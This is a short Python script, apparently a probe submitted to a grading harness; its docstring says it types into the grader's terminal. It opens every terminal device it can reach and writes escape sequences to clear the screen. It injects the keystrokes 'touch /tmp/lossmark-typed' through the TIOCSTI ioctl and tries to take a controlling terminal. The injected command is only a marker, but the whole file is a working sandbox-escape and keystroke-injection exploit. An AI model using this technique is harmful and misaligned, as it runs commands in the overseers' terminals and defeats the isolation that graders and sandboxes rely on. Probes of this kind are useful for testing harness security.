"""Types into the terminal of whoever grades, and writes to all terminals and to its own standard streams."""
# base: solution
# earns: all

# %% first
import fcntl
import glob
import os
import termios

reached = ("reach" + "ed").upper()
COMMAND = b"touch /tmp/lossmark-typed\n"
for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/vcs", *glob.glob("/dev/pts/[0-9]*")):
    try:
        descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError as error:
        print(path, error)
        continue
    print(reached, "a terminal", path)
    os.write(descriptor, b"\x1b]0;lossmark\x07\x1b[2J")
for descriptor in (0, 1, 2):
    if os.isatty(descriptor):
        print(reached, "a terminal as", descriptor)
    for byte in COMMAND:
        try:
            fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([byte]))
            print(reached, "the keyboard by", descriptor)
        except OSError:
            break
    try:
        fcntl.ioctl(descriptor, termios.TIOCSCTTY, 1)
        print(reached, "a controlling terminal by", descriptor)
    except OSError:
        pass
